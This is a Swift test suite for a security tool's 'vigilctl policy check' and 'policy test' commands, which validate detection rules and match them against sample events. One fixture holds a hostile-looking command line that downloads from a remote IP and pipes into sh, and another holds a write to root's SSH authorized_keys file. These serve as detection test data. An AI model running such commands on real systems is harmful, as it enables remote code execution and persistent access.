import Foundation
import Testing
import VigilPolicy
import VigilTestSupport

@Suite("vigilctl policy check / test")
struct PolicyCommandTests {
    let vigilctl = BuiltProducts.path("vigilctl")

    @Test func checkCorpusPrintsJSONSummary() async throws {
        guard let corpus = corpusDirectory() else { return }
        let result = try await runCommand(vigilctl, ["policy", "check", corpus + "/rules/linux", "--json"])
        #expect(result.status == 0, "\(result.stderr)")
        let object = try #require(JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        #expect(
            object["files"] as? Int == 210 && object["loaded"] as? Int == 210 && object["applicable"] as? Int == 135
        )
        #expect((object["not_applicable"] as? [[String: Any]])?.count == 75)
        #expect((object["errors"] as? [Any])?.isEmpty == true)
    }

    @Test func checkReportsLocatedErrorsAndExitsOne() async throws {
        let dir = NSTemporaryDirectory() + "vigil-policy-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try rule("    s:\n        Image|bogus: x\n    condition: s").write(
            toFile: dir + "/bad.yml",
            atomically: true,
            encoding: .utf8
        )
        let result = try await runCommand(vigilctl, ["policy", "check", dir])
        #expect(result.status == 1)
        #expect(
            result.stderr.contains("\(dir)/bad.yml:11:9: unknown modifier 'bogus' in 'Image|bogus'"),
            "\(result.stderr)"
        )
        #expect(result.stdout.contains("1 files: 0 rules loaded"))
    }

    @Test func testPrintsMatchesAndComparesExpectations() async throws {
        let dir = NSTemporaryDirectory() + "vigil-policy-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let events = dir + "/events.jsonl"
        try """
        {"category":"process_creation","Image":"/usr/bin/curl","CommandLine":"curl -o /tmp/x http://203.0.113.5/x | sh"}

        {"category":"process_creation","Image":"/usr/bin/ls","CommandLine":"ls /tmp"}
        {"category":"file_event","TargetFilename":"/root/.ssh/authorized_keys"}
        """.write(toFile: events, atomically: true, encoding: .utf8)
        let policies = repositoryRoot + "/Policies"
        let run = try await runCommand(vigilctl, ["policy", "test", policies, "--events", events, "--json"])
        #expect(run.status == 0, "\(run.stderr)")
        let matches = try PolicyTest.parseMatches(run.stdout, file: "stdout")
        #expect(matches.map(\.event).sorted() == [1, 4])
        #expect(matches.allSatisfy { $0.title?.isEmpty == false })

        try run.stdout.write(toFile: dir + "/expect.jsonl", atomically: true, encoding: .utf8)
        let same = try await runCommand(
            vigilctl,
            ["policy", "test", policies, "--events", events, "--expect", dir + "/expect.jsonl"]
        )
        #expect(same.status == 0, "\(same.stderr)")

        try "{\"event\": 3, \"rule\": \"nope\"}\n".write(
            toFile: dir + "/wrong.jsonl",
            atomically: true,
            encoding: .utf8
        )
        let differs = try await runCommand(
            vigilctl,
            ["policy", "test", policies, "--events", events, "--expect", dir + "/wrong.jsonl"]
        )
        #expect(differs.status == 1)
        #expect(differs.stderr.contains("missing: event 3 rule nope"))
        #expect(differs.stderr.contains("unexpected: event 1 rule"))
    }
}
